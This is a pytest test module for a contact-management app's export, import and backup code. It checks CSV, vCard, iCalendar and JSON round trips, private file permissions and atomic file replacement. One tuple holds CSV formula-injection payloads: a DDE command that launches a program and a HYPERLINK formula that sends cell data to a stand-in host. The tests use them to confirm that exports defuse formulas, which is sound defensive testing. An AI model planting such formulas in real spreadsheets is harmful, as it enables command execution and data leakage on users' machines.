"""Exports (P10): faithful, atomic, private; a JSON backup restores row for row."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from icalendar import Calendar
from peewee import SqliteDatabase

from infoview_gui.domain.contact import ContactData, derived_keys, validated
from infoview_gui.domain.enums import Source
from infoview_gui.domain.errors import DomainError, ValidationError
from infoview_gui.exchange.json_backup import FORMAT_VERSION, BackupError
from infoview_gui.paths import AppPaths
from infoview_gui.services import exports, imports, restore
from infoview_gui.services.contacts import add_contact
from infoview_gui.services.fields import add_field
from infoview_gui.services.import_plan import preview_data
from infoview_gui.services.profile import load_profile
from infoview_gui.services.ranking import add_criterion, set_score
from infoview_gui.services.settings import set_setting
from infoview_gui.store.database import close_database
from infoview_gui.store.models import (
    CareerField,
    Contact,
    Criterion,
    FieldLink,
    ImportBatch,
    Interview,
    ListQuestion,
    Profile,
    Question,
    QuestionList,
    ResearchItem,
)
from infoview_gui.store.opening import open_store
from infoview_gui.store.schema_contact_keys import DERIVED_TABLES as KEY_TABLES
from infoview_gui.store.schema_search import NOT_DERIVED
from infoview_gui.store.schema_tags import DERIVED_TABLES as TAG_LINES

NOW = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)
TRICKY = ",;\"'\\=+-@\t é日🚀👩‍💻"


def people(*, carriage_returns: bool) -> st.SearchStrategy[list[ContactData]]:
    """Lists of valid contacts that no duplicate rule would merge."""
    char = st.one_of(st.characters(exclude_categories=["Cs", "Cc"]), st.sampled_from(TRICKY))
    short = st.text(char, max_size=20)
    breaks = st.sampled_from(["\n", "\r\n"] if carriage_returns else ["\n"])
    notes = st.lists(st.tuples(short, breaks), max_size=3).map(
        lambda p: "".join(a + b for a, b in p)
    )
    local = st.text(st.sampled_from("abcxyz.+_-'=ÄΩ日"), min_size=1, max_size=8)
    contact = st.builds(
        ContactData,
        first_name=short,
        last_name=short,
        title=short,
        organisation=short,
        location=short,
        email=st.one_of(st.just(""), st.builds("{}@{}.org".format, local, local)),
        phone=st.text(char, max_size=15),
        profile_url=st.one_of(st.just(""), st.builds("https://{}".format, short)),
        source=st.sampled_from(list(Source)),
        introduced_by_text=short,
        notes=notes,
    )
    return st.lists(contact.map(_valid).filter(bool), max_size=5).filter(_distinct)  # type: ignore[arg-type]


def _valid(contact: ContactData) -> ContactData | None:
    try:
        return validated(contact)
    except ValidationError:
        return None


def _distinct(contacts: list[ContactData]) -> bool:
    keys = [
        key
        for contact in contacts
        for name, key in derived_keys(contact).items()
        if name.endswith("_key") and key
    ]
    return len(keys) == len(set(keys))


SETTINGS = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.filter_too_much],
)


def _round_trip(path: Path) -> list[ContactData]:
    Contact.delete().execute()
    ImportBatch.delete().execute()
    plan = preview_data(path.read_bytes(), imports.load_match_index())
    assert plan.rejects == []
    imports.commit_import(plan=plan)
    return exports.contacts_for_export()


def _saved(contacts: list[ContactData]) -> list[ContactData]:
    Contact.delete().execute()
    for contact in contacts:
        add_contact(contact=contact)
    return exports.contacts_for_export()


@SETTINGS
@given(contacts=people(carriage_returns=True), spreadsheet=st.booleans(), raw=st.booleans())
def test_csv_export_then_import_gives_the_same_contacts(
    store: SqliteDatabase, tmp_path: Path, contacts: list[ContactData], spreadsheet: bool, raw: bool
) -> None:
    assume(contacts)
    before = _saved(contacts)
    target = tmp_path / "contacts.csv"
    exports.export_csv(path=target, spreadsheet=spreadsheet, raw=raw)
    assert sorted(_round_trip(target), key=repr) == sorted(before, key=repr)


@SETTINGS
@given(contacts=people(carriage_returns=False))
def test_vcard_export_then_import_gives_the_same_contacts(
    store: SqliteDatabase, tmp_path: Path, contacts: list[ContactData]
) -> None:
    assume(contacts)
    before = _saved(contacts)
    target = tmp_path / "contacts.vcf"
    exports.export_vcard(path=target)
    assert sorted(_round_trip(target), key=repr) == sorted(before, key=repr)


def test_csv_for_spreadsheets_has_a_bom_and_defused_formulas(
    store: SqliteDatabase, tmp_path: Path
) -> None:
    add_contact(contact=ContactData(first_name="=SUM(A1)", phone="+44 20 7946 0000"))
    target = tmp_path / "contacts.csv"
    result = exports.export_csv(path=target, spreadsheet=True)
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfFirst name,")
    assert b"'=SUM(A1)" in data and b"'+44 20 7946 0000" in data
    assert data.endswith(b"\r\n")
    assert result.message == f"Exported 1 contact to {target}"
    raw = tmp_path / "raw.csv"
    exports.export_csv(path=raw, raw=True)
    assert b"=SUM(A1)," in raw.read_bytes() and not raw.read_bytes().startswith(b"\xef")


FORMULAS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?q="&A1,"Click")', "@SUM(1)")


def test_every_csv_export_defuses_formulas_by_default(
    store: SqliteDatabase, tmp_path: Path
) -> None:
    """No option given: not one cell starts a formula, and the phone reads as it was."""
    for first, last in zip(FORMULAS, ("-2+3", "\tTab", "\rReturn"), strict=True):
        add_contact(contact=ContactData(first_name=first, last_name=last, phone="+1-555-0100"))
    target = tmp_path / "contacts.csv"
    exports.export_csv(path=target)
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert [row[6] for row in rows[1:]] == ["'+1-555-0100"] * 3  # shown as +1-555-0100
    again = sorted(_round_trip(target), key=repr)
    assert sorted(c.phone for c in again) == ["+1-555-0100"] * 3  # re-imported unchanged
    assert sorted(c.first_name for c in again) == sorted(FORMULAS)


def test_only_the_selected_contacts_are_exported(store: SqliteDatabase, tmp_path: Path) -> None:
    ana = add_contact(contact=ContactData(first_name="Ana"))
    add_contact(contact=ContactData(first_name="Ben"))
    cy = add_contact(contact=ContactData(first_name="Cy"))
    target = tmp_path / "two.vcf"
    assert exports.export_vcard(path=target, contact_ids=[cy, ana]).count == 2
    text = target.read_bytes().decode("utf-8")
    assert text.count("BEGIN:VCARD\r\nVERSION:4.0\r\n") == 2
    assert "FN:Ana" in text and "FN:Cy" in text and "Ben" not in text


def test_exports_are_private_and_replace_the_file_whole(
    store: SqliteDatabase, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    add_contact(contact=ContactData(first_name="Ana"))
    target = tmp_path / "exports" / "out.csv"
    target.parent.mkdir()
    target.write_bytes(b"old")
    exports.export_csv(path=target, spreadsheet=False)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600

    def refuse(_source: object, _target: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", refuse)
    with pytest.raises(OSError, match="disk full"):
        exports.export_json(path=target, now=NOW)
    assert target.read_bytes().startswith(b"First name,")
    assert os.listdir(target.parent) == ["out.csv"]


def _interview(contact_id: int, uid: str, status: str, start: datetime | None) -> None:
    Interview.create(
        contact=contact_id,
        uid=uid,
        status=status,
        scheduled_start=start,
        time_zone="Europe/London",
        format="video",
        place="https://meet.example.org/x",
    )


def test_every_scheduled_interview_goes_into_one_calendar_with_stable_uids(
    store: SqliteDatabase, tmp_path: Path
) -> None:
    ana = add_contact(contact=ContactData(first_name="Ana", last_name="<b>Ruiz</b>"))
    ben = add_contact(contact=ContactData(email="ben@example.org"))
    _interview(ana, "a@infoview", "scheduled", datetime(2026, 4, 2, 13, 0, tzinfo=UTC))
    _interview(ben, "b@infoview", "scheduled", datetime(2026, 4, 1, 9, 0, tzinfo=UTC))
    _interview(ben, "c@infoview", "asked", None)
    target = tmp_path / "interviews.ics"
    assert exports.export_ics(path=target, now=NOW).count == 2
    events = Calendar.from_ical(target.read_bytes()).walk("VEVENT")
    assert [str(e["UID"]) for e in events] == ["b@infoview", "a@infoview"]
    assert str(events[1]["SUMMARY"]) == "Informational interview with Ana <b>Ruiz</b>"
    assert str(events[0]["SUMMARY"]) == "Informational interview with ben@example.org"
    exports.export_ics(path=target, now=datetime(2026, 3, 2, tzinfo=UTC))
    again = Calendar.from_ical(target.read_bytes()).walk("VEVENT")
    assert [str(e["UID"]) for e in again] == ["b@infoview", "a@infoview"]


# -- full JSON backup -------------------------------------------------------------------


def _populate() -> None:
    set_setting(key="paper", value="A4")
    Profile.create(id=1, name="Sam Student", email="sam@example.org", graduation="2027-06")
    field_id = add_field(name="Nursing")
    FieldLink.create(field=field_id, url="https://example.org/n", title="Guide")
    ResearchItem.create(field=field_id, text="Shifts are 12 hours?", verify=True)
    data = "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
    data += "Ana,Ruiz,https://x.org/ana,,Herald,Editor,1 May 2024\n"
    plan = preview_data(data.encode(), imports.load_match_index())
    ana = imports.commit_import(plan=plan, field_id=field_id, file_name="c.csv").new_ids[0]
    ben = add_contact(
        contact=ContactData(first_name="Bén", notes="Line\r\nbreak 🚀", introduced_by_id=ana)
    )
    criterion = add_criterion(field_id=field_id, name="Close to my goal", weight=4)
    set_score(contact_id=ana, criterion_id=criterion, score=5)
    _interview(ben, "b@infoview", "scheduled", datetime(2026, 4, 1, 9, 0, tzinfo=UTC))
    interview = Interview.get(Interview.uid == "b@infoview")
    Interview.update(thank_you_due=date(2026, 4, 2), duration_min=45).execute()
    question = Question.create(text="What is a day like?", topic="day_to_day", minutes=2.25)
    qlist = QuestionList.create(interview=interview.id, must_ask=2)
    ListQuestion.create(
        question_list=qlist,
        question=question,
        text="What is a day like?",
        position=1.5,
        answer="Busy",
        answered=True,
    )


def _rows(db: SqliteDatabase) -> dict[str, list[tuple[object, ...]]]:
    tables = [
        r[0]
        for r in db.execute_sql(
            "SELECT name FROM sqlite_master"
            " WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND "
            f"{NOT_DERIVED} ORDER BY name"  # the search index is rebuilt, not restored
        ).fetchall()
    ]
    return {t: db.execute_sql(f'SELECT * FROM "{t}" ORDER BY rowid').fetchall() for t in tables}


def test_a_backup_restores_into_an_empty_folder_row_for_row(
    store: SqliteDatabase, tmp_path: Path
) -> None:
    _populate()
    original = _rows(store)
    target = tmp_path / "backup.json"
    result = exports.export_json(path=target, now=NOW)
    assert result.count == sum(
        len(rows) for name, rows in original.items() if name not in (*KEY_TABLES, *TAG_LINES)
    )
    document = json.loads(target.read_bytes())
    assert (document["format"], document["version"]) == ("infoview-backup", FORMAT_VERSION)
    close_database()
    fresh = AppPaths(tmp_path / "fresh")
    fresh.ensure()
    db = open_store(fresh.database)
    assert restore.database_is_empty()
    counts = restore.restore_backup(data=target.read_bytes())
    assert counts["contact"] == 2
    assert _rows(db) == original
    assert db.execute_sql("PRAGMA foreign_key_check").fetchall() == []
    assert load_profile().name == "Sam Student"


def test_a_backup_is_not_restored_over_data(store: SqliteDatabase, tmp_path: Path) -> None:
    add_contact(contact=ContactData(first_name="Ana"))
    target = tmp_path / "backup.json"
    exports.export_json(path=target, now=NOW)
    before = _rows(store)
    with pytest.raises(DomainError, match="only into an empty data folder"):
        restore.restore_backup(data=target.read_bytes())
    assert _rows(store) == before


def test_a_damaged_backup_changes_nothing(store: SqliteDatabase, tmp_path: Path) -> None:
    add_contact(contact=ContactData(first_name="Ana"))
    target = tmp_path / "backup.json"
    exports.export_json(path=target, now=NOW)
    document = json.loads(target.read_bytes())
    document["tables"]["contact"]["rows"][0][
        document["tables"]["contact"]["columns"].index("field_id")
    ] = 42  # a link to a field that is not there
    Contact.delete().execute()
    before = _rows(store)
    with pytest.raises(BackupError, match="damaged"):
        restore.restore_backup(data=json.dumps(document).encode())
    assert _rows(store) == before
    document["version"] = FORMAT_VERSION + 1
    with pytest.raises(BackupError, match="newer InfoView"):
        restore.restore_backup(data=json.dumps(document).encode())


def _ranked_world() -> None:
    """Two fields with their own criteria and weights, contacts ranked and scored."""
    law, nursing = add_field(name="Law"), add_field(name="Nursing")
    pay = add_criterion(field_id=law, name="Pay", weight=3)
    hours = add_criterion(field_id=law, name="=Hours", weight=3)
    care = add_criterion(field_id=nursing, name="Patient care", weight=3)
    add_criterion(field_id=nursing, name="pay", weight=3)  # one column for both "Pay"s
    ids = {}
    for name, field_id in (("Ben", law), ("Cy", law), ("Ana", nursing), ("Zoe", None)):
        ids[name] = add_contact(contact=ContactData(first_name=name, field_id=field_id))
    Contact.update(rank=-5).where(Contact.id == ids["Cy"]).execute()  # Cy first in Law
    set_score(contact_id=ids["Ben"], criterion_id=pay, score=4)
    set_score(contact_id=ids["Ben"], criterion_id=hours, score=1)
    set_score(contact_id=ids["Cy"], criterion_id=pay, score=0)
    set_score(contact_id=ids["Ana"], criterion_id=care, score=5)


def _placings() -> dict[str, tuple[str | None, int | None, float | None, dict[str, int]]]:
    """Return each contact's field, place in the field, weighted score and scores."""
    from infoview_gui.store.models import CriterionScore

    result = {}
    for contact in Contact.select():
        field = CareerField.get_or_none(CareerField.id == contact.field_id)
        place = None
        if field is not None:
            order = Contact.select().where(Contact.field == field.id).order_by(Contact.rank)
            place = [c.id for c in order].index(contact.id) + 1
        scores = {
            str(s.criterion.name): int(s.score)
            for s in CriterionScore.select()
            .join(Criterion)
            .where(CriterionScore.contact == contact.id)
        }
        result[str(contact.first_name)] = (
            field and str(field.name),
            place,
            contact.score,
            scores,
        )
    return result


@pytest.mark.parametrize("spreadsheet", [False, True])
def test_csv_export_then_import_into_a_new_folder_keeps_field_rank_and_scores(
    tmp_path: Path, spreadsheet: bool
) -> None:
    """P10 for the ranking: fields and criteria the new folder lacks are made."""
    target = tmp_path / "contacts.csv"
    first, second = AppPaths(tmp_path / "a"), AppPaths(tmp_path / "b")
    first.ensure()
    second.ensure()
    open_store(first.database)
    try:
        _ranked_world()
        before = _placings()
        exports.export_csv(path=target, spreadsheet=spreadsheet)
    finally:
        close_database()
    header = target.read_text("utf-8-sig").splitlines()[0]
    assert header.endswith(
        "Career field,Rank,Weighted score,Score: How close their job is to the one I want,"
        "Score: We know someone in common,Score: Easy to meet (location),Score: Pay,"
        "Score: =Hours,Score: Patient care"
    )
    cy = r"\nCy,,,,,,,,other,,,,,,,,,,urn:uuid:[0-9a-f-]{36},Law,1,0,,,,0,,\n"
    assert re.search(cy, target.read_text("utf-8-sig"))
    open_store(second.database)
    try:
        plan = preview_data(target.read_bytes(), imports.load_match_index())
        assert plan.rejects == []
        imports.commit_import(plan=plan)
        assert _placings() == before
        assert before["Ben"] == ("Law", 2, 2.5, {"Pay": 4, "=Hours": 1})
        assert before["Zoe"] == (None, None, None, {})
    finally:
        close_database()


def test_an_imported_ranking_joins_the_field_of_that_name_after_its_contacts(
    store: SqliteDatabase, tmp_path: Path
) -> None:
    """The field is matched whatever the case; the file's order follows the field's own."""
    law = add_field(name="LAW")
    pay = add_criterion(field_id=law, name="pay", weight=1)
    add_contact(contact=ContactData(first_name="Old", field_id=law))
    target = tmp_path / "in.csv"
    target.write_text(
        "First name,Career field,Rank,Weighted score,Score: Pay,Score: Reach\r\n"
        "Second,law,2,,9,\r\n"
        "First,Law,1,4,3,5\r\n"
        "Nowhere,,,,,\r\n",
        encoding="utf-8",
    )
    plan = preview_data(target.read_bytes(), imports.load_match_index())
    imports.commit_import(plan=plan)
    placed = _placings()
    assert placed["Old"][:2] == ("LAW", 1)
    assert placed["First"] == ("LAW", 2, 4.5, {"pay": 3, "Reach": 5})  # (3*1 + 5*3) / 4
    assert placed["Second"] == ("LAW", 3, None, {})  # 9 is no score: left out
    assert placed["Nowhere"] == (None, None, None, {})
    assert [c.name for c in Criterion.select().where(Criterion.field == law)][-1] == "Reach"
    assert pay


def test_a_field_chosen_for_the_import_wins_over_the_files(
    store: SqliteDatabase, tmp_path: Path
) -> None:
    nursing = add_field(name="Nursing")
    target = tmp_path / "in.csv"
    target.write_text("First name,Career field,Rank\r\nAna,Law,1\r\n", encoding="utf-8")
    plan = preview_data(target.read_bytes(), imports.load_match_index())
    imports.commit_import(plan=plan, field_id=nursing)
    assert _placings()["Ana"][:2] == ("Nursing", 1)
    assert [f.name for f in CareerField.select()] == ["Nursing"]
